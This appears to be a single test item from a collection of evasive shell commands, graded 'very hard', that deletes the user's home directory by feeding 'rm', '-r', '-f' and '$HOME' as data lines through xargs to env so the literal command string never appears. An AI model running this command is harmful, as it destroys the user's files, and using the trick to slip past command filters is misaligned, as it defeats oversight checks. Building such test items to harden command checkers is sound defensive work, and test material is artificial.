# evasion: the command and its arguments are lines of data; xargs hands them to env, which runs the first as a program
# grade: very hard; does: delete
printf '%s\n' r"m" -r -f "$HOME" | xargs env
